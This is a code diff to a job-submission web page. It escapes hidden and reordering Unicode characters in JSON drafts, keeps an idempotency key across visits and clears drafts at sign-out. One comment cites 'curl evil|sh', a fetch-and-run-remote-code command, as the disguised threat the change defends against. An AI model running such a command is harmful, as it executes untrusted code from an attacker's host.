@@ -348,7 +348,8 @@ async function jobPage(id) {
     });
   }
   document.getElementById("resubmit").addEventListener("click", () => {
-    sessionStorage.setItem("jc-draft", JSON.stringify(bodyOf(job), null, 2));
+    sessionStorage.setItem("jc-draft", shownJson(bodyOf(job)));
+    sessionStorage.removeItem("jc-draft-key");
     sessionStorage.setItem("jc-draft-from", job.jobId);
     location.hash = "#/submit";
   });
@@ -454,13 +455,22 @@ function bodyOf(job) {
   return body;
 }
 
+// JSON for a person to read before submitting it: characters that reorder or hide text
+// (bidirectional controls, zero-width and other format characters) written out as \\uXXXX
+// — still the same JSON, but seen: a command's "curl evil|sh" can no longer look commented
+// out (attacker helper-51).
+function shownJson(value) {
+  return JSON.stringify(value, null, 2).replace(/[\u061c\u115f\u1160\u180e\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff]/g,
+    (c) => "\\u" + c.charCodeAt(0).toString(16).padStart(4, "0"));
+}
+
 // Submit a job as platforms do (POST /openapi/v1/trainjob): its JSON body in an editor, planned
 // first if wished (the dry run), submitted once however often the button is pressed (an
 // Idempotency-Key per body shown). What is typed stays in the tab's session until submitted.
 const SAMPLE_JOB = { name: "hello", tasks: [{ name: "main", command: "echo hello", resourceSpecId: "cpu-1", replicaNumber: 1 }] };
 async function submitPage() {
   const from = sessionStorage.getItem("jc-draft-from");
-  const draft = sessionStorage.getItem("jc-draft") || JSON.stringify(SAMPLE_JOB, null, 2);
+  const draft = sessionStorage.getItem("jc-draft") || shownJson(SAMPLE_JOB);
   view.innerHTML = `<h2>Submit a job</h2>
     ${from ? `<p class="muted" id="resubmit-note">From job <a href="#/jobs/${esc(from)}">${esc(from)}</a>, as its page shows it: add its datasets, named ports or pinned centers if it had any.</p>` : ""}
     <p class="muted">The body of <code>POST /openapi/v1/trainjob</code> (JSON; <code>jcctl job submit -f</code> takes YAML too): docs/api.md.</p>
@@ -469,10 +479,15 @@ async function submitPage() {
     <div id="submit-out"></div>`;
   const editor = document.getElementById("job-body");
   const out = document.getElementById("submit-out");
-  let key = crypto.randomUUID();  // one job per body, however often it is pressed
+  // One job per body, however often it is pressed, and after leaving the page and coming
+  // back (a submit whose answer never came is retried with its key): a new key only for an
+  // edited body.
+  let key = sessionStorage.getItem("jc-draft-key") || crypto.randomUUID();
+  sessionStorage.setItem("jc-draft-key", key);
   editor.addEventListener("input", () => {
     sessionStorage.setItem("jc-draft", editor.value);
     key = crypto.randomUUID();
+    sessionStorage.setItem("jc-draft-key", key);
   });
   const parsed = () => {
     try {
@@ -498,8 +513,7 @@ async function submitPage() {
     if (!body) return;
     try {
       const made = await apiPost("/openapi/v1/trainjob", body, { "Idempotency-Key": key });
-      sessionStorage.removeItem("jc-draft");
-      sessionStorage.removeItem("jc-draft-from");
+      for (const item of ["jc-draft", "jc-draft-from", "jc-draft-key"]) sessionStorage.removeItem(item);
       out.innerHTML = `<p id="submitted">Submitted <a href="#/jobs/${esc(made.jobId)}">${esc(made.jobId)}</a>.</p>`;
     } catch (e) {
       out.innerHTML = `<p class="error" id="submit-error">Not submitted: ${esc(e.message)}</p>`;
@@ -760,6 +774,8 @@ async function whoami() {
 document.getElementById("refresh").addEventListener("click", () => route().then(whoami));
 document.getElementById("signout").addEventListener("click", () => {
   sessionStorage.removeItem("jc-token");
+  // Whoever signs in next on this tab sees nothing of this person's work.
+  for (const item of ["jc-draft", "jc-draft-from", "jc-draft-key"]) sessionStorage.removeItem(item);
   document.getElementById("who").textContent = "";
   for (const s of streams) s.abort();
   for (const t of timers) clearInterval(t);
